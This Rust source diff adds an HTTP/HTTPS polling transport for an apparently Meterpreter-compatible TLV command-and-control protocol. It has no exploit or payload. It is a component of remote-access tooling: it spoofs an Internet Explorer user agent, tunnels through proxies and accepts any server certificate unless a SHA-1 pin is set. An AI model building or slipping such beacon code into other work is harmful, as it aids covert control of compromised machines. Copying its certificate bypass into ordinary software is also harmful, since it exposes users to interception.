@@ -0,0 +1,469 @@
+use std::collections::VecDeque;
+use std::convert::TryFrom;
+use std::fmt;
+use std::io::{self, Read, Write};
+use std::net::TcpStream;
+use std::string::{String, ToString};
+use std::sync::Arc;
+use std::time::Duration;
+use std::vec::Vec;
+
+use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
+use rustls::crypto::{verify_tls12_signature, verify_tls13_signature, CryptoProvider};
+use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
+use rustls::{ClientConfig, ClientConnection, DigitallySignedStruct, SignatureScheme, StreamOwned};
+use sha1::{Digest, Sha1};
+
+use super::decoder::PacketDecoder;
+use super::error::{ProtocolError, TransportError};
+use super::tlv::*;
+use super::transport::Transport;
+
+pub const CERT_HASH_SIZE: usize = 20;
+pub type CertHash = [u8; CERT_HASH_SIZE];
+pub const DEFAULT_USER_AGENT: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko";
+const MAX_HEADER_SIZE: usize = 16 * 1024;
+
+#[derive(Clone,Debug,Eq,PartialEq,Ord,PartialOrd,Hash)]
+pub struct HttpUrl {
+  tls: bool,
+  host: String,
+  port: u16,
+  path: String,
+}
+impl HttpUrl {
+  pub fn parse(url: &str) -> Result<Self, ProtocolError> {
+    let (tls, rest) = if let Some(rest) = url.strip_prefix("https://") {
+      (true, rest)
+    } else if let Some(rest) = url.strip_prefix("http://") {
+      (false, rest)
+    } else {
+      return Err(ProtocolError::InvalidUrl);
+    };
+    let (authority, path) = match rest.find('/') {
+      Some(i) => rest.split_at(i),
+      None => (rest, "/"),
+    };
+    let (host, port) = match authority.rfind(':') {
+      Some(i) if !authority.ends_with(']') => {
+        let port = authority[i + 1..].parse().map_err(|_| ProtocolError::InvalidUrl)?;
+        (&authority[..i], port)
+      },
+      _ => (authority, if tls { 443 } else { 80 }),
+    };
+    // ipv6 literals are bracketed in urls only
+    let host = match host.strip_prefix('[') {
+      Some(inner) => inner.strip_suffix(']').ok_or(ProtocolError::InvalidUrl)?,
+      None => host,
+    };
+    if host.is_empty() {
+      return Err(ProtocolError::InvalidUrl);
+    }
+    Ok(HttpUrl {
+      tls,
+      host: host.to_string(),
+      port,
+      path: path.to_string(),
+    })
+  }
+  pub fn tls(&self) -> bool {
+    self.tls
+  }
+  pub fn host(&self) -> &str {
+    &self.host
+  }
+  pub fn port(&self) -> u16 {
+    self.port
+  }
+  pub fn path(&self) -> &str {
+    &self.path
+  }
+  fn authority(&self) -> String {
+    match self.host.contains(':') {
+      true => format!("[{}]:{}", self.host, self.port),
+      false => format!("{}:{}", self.host, self.port),
+    }
+  }
+}
+
+// settings carried by the Transport* tlvs
+#[derive(Clone,Eq,PartialEq,Ord,PartialOrd,Hash)]
+pub struct HttpConfig {
+  url: HttpUrl,
+  user_agent: String,
+  // extra "Name: value" lines sent with every request
+  headers: Vec<String>,
+  proxy: Option<HttpUrl>,
+  proxy_user: Option<String>,
+  proxy_pass: Option<String>,
+  cert_hash: Option<CertHash>,
+}
+// keeps the proxy password out of logs
+impl fmt::Debug for HttpConfig {
+  fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+    f.debug_struct("HttpConfig")
+      .field("url", &self.url)
+      .field("user_agent", &self.user_agent)
+      .field("headers", &self.headers)
+      .field("proxy", &self.proxy)
+      .field("proxy_user", &self.proxy_user)
+      .field("proxy_pass", &self.proxy_pass.as_ref().map(|_| "<redacted>"))
+      .field("cert_hash", &self.cert_hash)
+      .finish()
+  }
+}
+impl HttpConfig {
+  pub fn new(url: &str) -> Result<Self, ProtocolError> {
+    Ok(HttpConfig {
+      url: HttpUrl::parse(url)?,
+      user_agent: DEFAULT_USER_AGENT.to_string(),
+      headers: Vec::new(),
+      proxy: None,
+      proxy_user: None,
+      proxy_pass: None,
+      cert_hash: None,
+    })
+  }
+  // reads a TransportGroup's members, or any other list holding the same tlvs
+  pub fn from_tlvs<'a, I>(tlvs: I) -> Result<Self, ProtocolError>
+    where I: IntoIterator<Item = &'a Tlv>
+  {
+    let tlvs: Vec<&Tlv> = tlvs.into_iter().collect();
+    let find = |ty: TlvType| tlvs.iter().find(|tlv| tlv.header().get_type() == ty).copied();
+    let url = find(TlvType::TransportUrl).ok_or(ProtocolError::MissingTlv(TlvType::TransportUrl))?;
+    let mut config = HttpConfig::new(url.as_str()?)?;
+    if let Some(ua) = find(TlvType::TransportUserAgent) {
+      config.user_agent = ua.as_str()?.to_string();
+    }
+    if let Some(headers) = find(TlvType::TransportHeaders) {
+      config.headers = headers.as_str()?
+        .split("\r\n")
+        .filter(|line| !line.is_empty())
+        .map(|line| line.to_string())
+        .collect();
+    }
+    if let Some(proxy) = find(TlvType::TransportProxyHost) {
+      let proxy = proxy.as_str()?;
+      if !proxy.is_empty() {
+        // meterpreter accepts bare host:port here
+        config.proxy = Some(match proxy.contains("://") {
+          true => HttpUrl::parse(proxy)?,
+          false => HttpUrl::parse(&format!("http://{}", proxy))?,
+        });
+      }
+    }
+    if let Some(user) = find(TlvType::TransportProxyUser) {
+      config.proxy_user = Some(user.as_str()?.to_string());
+    }
+    if let Some(pass) = find(TlvType::TransportProxyPass) {
+      config.proxy_pass = Some(pass.as_str()?.to_string());
+    }
+    if let Some(hash) = find(TlvType::TransportCertificateHash) {
+      let bytes = hash.as_bytes()?;
+      if bytes.len() != CERT_HASH_SIZE {
+        return Err(ProtocolError::LengthMismatch {
+          declared: CERT_HASH_SIZE as u32,
+          actual: bytes.len() as u32,
+        });
+      }
+      let mut pin: CertHash = [0x00; CERT_HASH_SIZE];
+      pin.copy_from_slice(bytes);
+      config.cert_hash = Some(pin);
+    }
+    Ok(config)
+  }
+  pub fn url(&self) -> &HttpUrl {
+    &self.url
+  }
+  pub fn user_agent(&self) -> &str {
+    &self.user_agent
+  }
+  pub fn set_user_agent(mut self, user_agent: &str) -> Self {
+    self.set_user_agent_ref(user_agent);
+    self
+  }
+  pub fn set_user_agent_ref(&mut self, user_agent: &str) {
+    self.user_agent = user_agent.to_string();
+  }
+  pub fn headers(&self) -> &[String] {
+    &self.headers
+  }
+  pub fn add_header(mut self, header: &str) -> Self {
+    self.add_header_ref(header);
+    self
+  }
+  pub fn add_header_ref(&mut self, header: &str) {
+    self.headers.push(header.to_string());
+  }
+  pub fn proxy(&self) -> Option<&HttpUrl> {
+    self.proxy.as_ref()
+  }
+  pub fn set_proxy(mut self, proxy: &str, user: Option<&str>, pass: Option<&str>) -> Result<Self, ProtocolError> {
+    self.set_proxy_ref(proxy, user, pass)?;
+    Ok(self)
+  }
+  pub fn set_proxy_ref(&mut self, proxy: &str, user: Option<&str>, pass: Option<&str>) -> Result<(), ProtocolError> {
+    self.proxy = Some(HttpUrl::parse(proxy)?);
+    self.proxy_user = user.map(|u| u.to_string());
+    self.proxy_pass = pass.map(|p| p.to_string());
+    Ok(())
+  }
+  pub fn cert_hash(&self) -> Option<&CertHash> {
+    self.cert_hash.as_ref()
+  }
+  pub fn set_cert_hash(mut self, hash: CertHash) -> Self {
+    self.set_cert_hash_ref(hash);
+    self
+  }
+  pub fn set_cert_hash_ref(&mut self, hash: CertHash) {
+    self.cert_hash = Some(hash);
+  }
+  fn proxy_authorization(&self) -> Option<String> {
+    let user = self.proxy_user.as_ref()?;
+    let pass = self.proxy_pass.as_ref().map_or("", |p| p.as_str());
+    Some(format!("Basic {}", base64(format!("{}:{}", user, pass).as_bytes())))
+  }
+}
+
+// polls the server, a GET asks for queued packets and each packet sent is
+// the body of a POST; either reply may carry packets back
+#[derive(Debug)]
+pub struct HttpTransport {
+  config: HttpConfig,
+  tls: Arc<ClientConfig>,
+  decoder: PacketDecoder,
+  timeout: Option<Duration>,
+  // bodies of POST replies, only decoded on the next recv_frame so a bad
+  // reply never fails a send that was delivered
+  replies: VecDeque<Vec<u8>>,
+}
+impl HttpTransport {
+  pub fn new(config: HttpConfig) -> Result<Self, TransportError> {
+    let provider = Arc::new(rustls::crypto::ring::default_provider());
+    let verifier = Arc::new(PinnedVerifier {
+      pin: config.cert_hash,
+      provider: provider.clone(),
+    });
+    let tls = ClientConfig::builder_with_provider(provider)
+      .with_safe_default_protocol_versions()
+      .map_err(|_| TransportError::Tls)?
+      .dangerous()
+      .with_custom_certificate_verifier(verifier)
+      .with_no_client_auth();
+    Ok(HttpTransport {
+      config,
+      tls: Arc::new(tls),
+      decoder: PacketDecoder::new(),
+      timeout: None,
+      replies: VecDeque::new(),
+    })
+  }
+  pub fn config(&self) -> &HttpConfig {
+    &self.config
+  }
+  pub fn decoder(&self) -> &PacketDecoder {
+    &self.decoder
+  }
+  pub fn mut_decoder(&mut self) -> &mut PacketDecoder {
+    &mut self.decoder
+  }
+  // applies to connecting, reading and writing each request
+  pub fn set_timeout(&mut self, timeout: Option<Duration>) {
+    self.timeout = timeout;
+  }
+  fn connect(&self) -> io::Result<Box<dyn Stream>> {
+    let url = &self.config.url;
+    let hop = self.config.proxy.as_ref().unwrap_or(url);
+    let stream = TcpStream::connect(hop.authority())?;
+    stream.set_read_timeout(self.timeout)?;
+    stream.set_write_timeout(self.timeout)?;
+    if !url.tls {
+      return Ok(Box::new(stream));
+    }
+
+    let mut stream = stream;
+    if self.config.proxy.is_some() {
+      let mut head = format!("CONNECT {} HTTP/1.1\r\nHost: {}\r\n", url.authority(), url.authority());
+      if let Some(auth) = self.config.proxy_authorization() {
+        head.push_str(&format!("Proxy-Authorization: {}\r\n", auth));
+      }
+      head.push_str("\r\n");
+      stream.write_all(head.as_bytes())?;
+      let (status, _) = read_response(&mut stream, true, 0)?;
+      if status != 200 {
+        return Err(io::Error::other(format!("proxy refused CONNECT with {}", status)));
+      }
+    }
+    let name = ServerName::try_from(url.host.clone())
+      .map_err(|err| io::Error::new(io::ErrorKind::InvalidInput, err))?;
+    let conn = ClientConnection::new(self.tls.clone(), name)
+      .map_err(io::Error::other)?;
+    Ok(Box::new(StreamOwned::new(conn, stream)))
+  }
+  // one request, returning the reply body
+  fn exchange(&mut self, body: Option<&[u8]>) -> Result<Vec<u8>, TransportError> {
+    let url = &self.config.url;
+    // plain http through a proxy needs the absolute form
+    let target = match self.config.proxy {
+      Some(_) if !url.tls => format!("http://{}{}", url.authority(), url.path),
+      _ => url.path.clone(),
+    };
+    let method = if body.is_some() { "POST" } else { "GET" };
+    let mut head = format!("{} {} HTTP/1.1\r\nHost: {}\r\nUser-Agent: {}\r\nConnection: close\r\n",
+      method, target, url.authority(), self.config.user_agent);
+    for header in self.config.headers.iter() {
+      head.push_str(header);
+      head.push_str("\r\n");
+    }
+    if !url.tls {
+      if let Some(auth) = self.config.proxy_authorization() {
+        head.push_str(&format!("Proxy-Authorization: {}\r\n", auth));
+      }
+    }
+    let body = body.unwrap_or(&[]);
+    head.push_str(&format!("Content-Length: {}\r\n\r\n", body.len()));
+
+    let mut stream = self.connect()?;
+    stream.write_all(head.as_bytes())?;
+    stream.write_all(body)?;
+    stream.flush()?;
+    let (status, reply) = read_response(&mut stream, false, self.decoder.max_packet_size())?;
+    if status != 200 {
+      return Err(TransportError::HttpStatus(status));
+    }
+    Ok(reply)
+  }
+}
+impl Transport for HttpTransport {
+  fn send_frame(&mut self, frame: &[u8]) -> Result<(), TransportError> {
+    let reply = self.exchange(Some(frame))?;
+    if !reply.is_empty() {
+      self.replies.push_back(reply);
+    }
+    Ok(())
+  }
+  fn recv_frame(&mut self) -> Result<Option<Vec<u8>>, TransportError> {
+    loop {
+      if let Some(frame) = self.decoder.next_frame()? {
+        return Ok(Some(frame));
+      }
+      match self.replies.pop_front() {
+        Some(reply) => self.decoder.feed(&reply)?,
+        None => break,
+      }
+    }
+    let reply = self.exchange(None)?;
+    self.decoder.feed(&reply)?;
+    Ok(self.decoder.next_frame()?)
+  }
+}
+
+trait Stream: Read + Write {}
+impl<S: Read + Write> Stream for S {}
+
+// status and body of one response; head_only stops after the headers,
+// which is all a CONNECT reply has before the tunnel starts. Bodies over
+// max_body bytes are refused rather than buffered
+fn read_response<S>(stream: &mut S, head_only: bool, max_body: usize) -> io::Result<(u16, Vec<u8>)>
+  where S: Read + ?Sized
+{
+  let bad = |msg: &str| io::Error::new(io::ErrorKind::InvalidData, msg.to_string());
+  let mut buf: Vec<u8> = Vec::new();
+  let mut byte = [0x00; 1];
+  // byte at a time so nothing past the headers is consumed
+  while !buf.ends_with(b"\r\n\r\n") {
+    if buf.len() > MAX_HEADER_SIZE {
+      return Err(bad("http headers too large"));
+    }
+    match stream.read(&mut byte)? {
+      0 => return Err(io::ErrorKind::UnexpectedEof.into()),
+      _ => buf.push(byte[0]),
+    }
+  }
+  let head = std::str::from_utf8(&buf).map_err(|_| bad("http headers are not utf-8"))?;
+  let mut lines = head.split("\r\n");
+  let status = lines.next()
+    .and_then(|line| line.split(' ').nth(1))
+    .and_then(|code| code.parse().ok())
+    .ok_or_else(|| bad("malformed http status line"))?;
+  let mut length: Option<usize> = None;
+  for line in lines {
+    let mut parts = line.splitn(2, ':');
+    let name = parts.next().unwrap_or("").trim();
+    let value = parts.next().unwrap_or("").trim();
+    if name.eq_ignore_ascii_case("content-length") {
+      length = Some(value.parse().map_err(|_| bad("malformed content-length"))?);
+    } else if name.eq_ignore_ascii_case("transfer-encoding") && !value.eq_ignore_ascii_case("identity") {
+      return Err(bad("chunked http bodies are not supported"));
+    }
+  }
+  if head_only {
+    return Ok((status, Vec::new()));
+  }
+
+  let mut body: Vec<u8> = Vec::new();
+  match length {
+    Some(length) if length > max_body => return Err(bad("http body too large")),
+    Some(length) => {
+      body.resize(length, 0x00);
+      stream.read_exact(&mut body)?;
+    },
+    // servers that skip the tls close_notify show up as an early eof
+    None => match stream.take(max_body as u64 + 1).read_to_end(&mut body) {
+      Err(ref err) if err.kind() == io::ErrorKind::UnexpectedEof => {},
+      res => { res?; },
+    },
+  }
+  if body.len() > max_body {
+    return Err(bad("http body too large"));
+  }
+  Ok((status, body))
+}
+
+fn base64(val: &[u8]) -> String {
+  const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+  let mut out = String::with_capacity(val.len().div_ceil(3) * 4);
+  for chunk in val.chunks(3) {
+    let n = chunk.iter().enumerate().fold(0u32, |n, (i, b)| n | (*b as u32) << (16 - 8 * i));
+    for i in 0..4 {
+      if i <= chunk.len() {
+        out.push(ALPHABET[(n >> (18 - 6 * i)) as usize & 0x3f] as char);
+      } else {
+        out.push('=');
+      }
+    }
+  }
+  out
+}
+
+// like meterpreter, the only check made on the server certificate is the
+// optional sha1 pin; handshake signatures are still verified
+#[derive(Debug)]
+struct PinnedVerifier {
+  pin: Option<CertHash>,
+  provider: Arc<CryptoProvider>,
+}
+impl ServerCertVerifier for PinnedVerifier {
+  fn verify_server_cert(&self, end_entity: &CertificateDer<'_>, _intermediates: &[CertificateDer<'_>],
+    _server_name: &ServerName<'_>, _ocsp: &[u8], _now: UnixTime) -> Result<ServerCertVerified, rustls::Error>
+  {
+    match self.pin {
+      Some(pin) if Sha1::digest(end_entity.as_ref())[..] != pin[..] =>
+        Err(rustls::Error::InvalidCertificate(rustls::CertificateError::ApplicationVerificationFailure)),
+      _ => Ok(ServerCertVerified::assertion()),
+    }
+  }
+  fn verify_tls12_signature(&self, message: &[u8], cert: &CertificateDer<'_>, dss: &DigitallySignedStruct)
+    -> Result<HandshakeSignatureValid, rustls::Error>
+  {
+    verify_tls12_signature(message, cert, dss, &self.provider.signature_verification_algorithms)
+  }
+  fn verify_tls13_signature(&self, message: &[u8], cert: &CertificateDer<'_>, dss: &DigitallySignedStruct)
+    -> Result<HandshakeSignatureValid, rustls::Error>
+  {
+    verify_tls13_signature(message, cert, dss, &self.provider.signature_verification_algorithms)
+  }
+  fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
+    self.provider.signature_verification_algorithms.supported_schemes()
+  }
+}